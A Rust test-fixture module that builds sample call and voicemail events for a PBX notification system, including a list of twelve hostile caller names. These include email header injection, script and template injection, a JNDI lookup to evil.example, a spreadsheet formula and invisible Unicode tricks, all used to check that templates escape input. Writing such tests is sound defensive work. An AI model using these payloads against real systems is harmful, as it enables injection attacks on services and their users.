//! Sample events: for `check`, `render` and `send-test`, and the hostile ones that templates must survive.

use std::time::Duration;

use jiff::{SignedDuration, Timestamp};

use super::facts::Repeated;
use crate::cursor::{ahead, back};
use crate::event::{Called, Caller, Closed, Ending, Event, EventId, EventType, Kind, Standing};
use crate::private::{Digits, PersonName, PhoneNumber};

/// Names that callers may choose, each against some format.
pub const HOSTILE_NAMES: [&str; 12] = [
    "A\r\nBcc: evil@example.com<script>alert(1)</script>{{7*7}}",
    "<!channel> <!here> <@U012AB3CD> <https://evil.example|Banka> @here",
    "*kalın* _eğik_ ~çizik~ `kod` :smile:",
    "\"}],\"blocks\":[{\"x\":\"\\",
    "\\\"\\u0000\\n'--><!--]]>",
    "${jndi:ldap://evil.example} {{{caller.number}}} {{> shared/email.head.html}}",
    "=HYPERLINK(\"https://evil.example\") javascript:alert(1)",
    "شركة الاتصالات",
    "\u{202e}67 54 321\u{2066}x\u{200b}y\u{0}\u{1b}[31m",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦🇹🇷😀",
    " \u{200b}\u{feff} ",
    "",
];

/// A full event, as contract section 4 shows it, that ended at `now`; that of a follow-up has been settled since.
pub fn event(event_type: EventType, now: Timestamp) -> Event {
    let kind = event_type.kind();
    let settled_at = ahead(now, Duration::from_secs(23 * 60));
    let (standing, ending) = match event_type {
        EventType::CallReturned => {
            let ending = Ending { at: settled_at, extension: Some("1014".to_owned()) };
            (Standing::Closed { at: settled_at, by: Closed::Returned }, Some(ending))
        }
        EventType::VoicemailHeard => {
            let ending = Ending { at: settled_at, extension: None };
            (Standing::Closed { at: settled_at, by: Closed::Heard }, Some(ending))
        }
        _ => (Standing::Announced { at: now }, None),
    };
    let uuid = "651f8a68-782e-11e7-a6b6-5bedc26e2ab3";
    let call = kind == Kind::Call;
    Event {
        id: EventId::derive("main", kind.first_event(), uuid),
        account: "main".to_owned(),
        kind,
        uuid: uuid.to_owned(),
        caller: Caller {
            number: Some(number("03121234567", Some("+903121234567"), "0312 123 45 67")),
            name: Some(PersonName::new("Mehmet Yılmaz")),
        },
        called: Called {
            number: call.then(|| number("902129876543", Some("+902129876543"), "0212 987 65 43")),
            name: Some(PersonName::new("Dahili 1")),
            extension: Some("1002".to_owned()),
            queue: call.then(|| "201".to_owned()),
            queue_name: None,
        },
        started_at: now.saturating_sub(SignedDuration::from_secs(65)).unwrap_or(now),
        ended_at: now,
        duration: Some(65),
        queue_wait: call.then_some(10),
        result: call.then(|| "Cevapsız".to_owned()),
        return_uuid: (event_type == EventType::CallReturned).then(|| "7c9e6679-7425-40de-944b-e07fc1f90ae7".to_owned()),
        recording: !call,
        seen_at: now,
        standing,
        ending,
        note: None,
        rules: vec![0],
        steps: Vec::new(),
        escalated: 0,
    }
}

/// How long nobody has acted, in a sample of an escalation.
pub fn waited(event_type: EventType) -> Option<Duration> {
    event_type.is_escalation().then_some(Duration::from_secs(16 * 60))
}

/// Events of every kind of sparseness and malice, each with a name.
pub fn all(event_type: EventType, now: Timestamp) -> Vec<(String, Event)> {
    let full = event(event_type, now);
    let mut withheld = full.clone();
    withheld.caller = Caller::default();
    let mut sparse = full.clone();
    sparse.caller.name = None;
    sparse.called = Called::default();
    (sparse.ending, sparse.return_uuid) = (None, None);
    (sparse.duration, sparse.queue_wait, sparse.result) = (None, None, None);
    let mut inside = full.clone();
    inside.caller = Caller { number: Some(number("1014", None, "1014")), name: None };
    let mut long = full.clone();
    // Four bytes a character, and characters that double when escaped.
    fill(&mut long, &"😀".repeat(2000), &"\"\\".repeat(2000));
    let mut samples = vec![
        ("full".to_owned(), full.clone()),
        ("withheld".to_owned(), withheld),
        ("sparse".to_owned(), sparse),
        ("extension".to_owned(), inside),
        ("long".to_owned(), long),
    ];
    if event_type == EventType::CallReturned {
        for by in [Closed::CallerReached, Closed::Answered] {
            let mut reached = full.clone();
            reached.return_uuid = None;
            reached.standing = Standing::Closed { at: reached.settled_at().unwrap_or(now), by };
            samples.push((if by == Closed::Answered { "answered" } else { "reached" }.to_owned(), reached));
        }
    }
    for (position, name) in HOSTILE_NAMES.into_iter().enumerate() {
        let mut hostile = full.clone();
        fill(&mut hostile, name, name);
        samples.push((format!("hostile {position}"), hostile));
    }
    samples
}

/// The latest of three calls of one caller, of which the channel was told before.
pub fn repeated(event: &Event) -> Repeated {
    let times = [480, 60, 0].map(|ago| back(event.started_at, Duration::from_secs(ago)));
    Repeated { count: 3, times: times.to_vec(), follows: true }
}

pub use super::notice::samples as notices;
pub use super::summary::sample as summary;

/// Puts a text wherever the PBX could.
pub(super) fn fill(event: &mut Event, name: &str, text: &str) {
    text.clone_into(&mut event.uuid);
    event.caller = Caller { number: Some(number(text, None, text)), name: Some(PersonName::new(name)) };
    event.called = Called {
        number: Some(number(text, None, text)),
        name: Some(PersonName::new(name)),
        extension: Some(text.to_owned()),
        queue: Some(text.to_owned()),
        queue_name: Some(PersonName::new(name)),
    };
    event.result = Some(text.to_owned());
    event.return_uuid = Some(text.to_owned());
    if let Some(ending) = &mut event.ending {
        ending.extension = Some(text.to_owned());
    }
}

fn number(raw: &str, e164: Option<&str>, display: &str) -> PhoneNumber {
    PhoneNumber::new(Digits { raw: raw.to_owned(), e164: e164.map(str::to_owned), display: display.to_owned() })
}
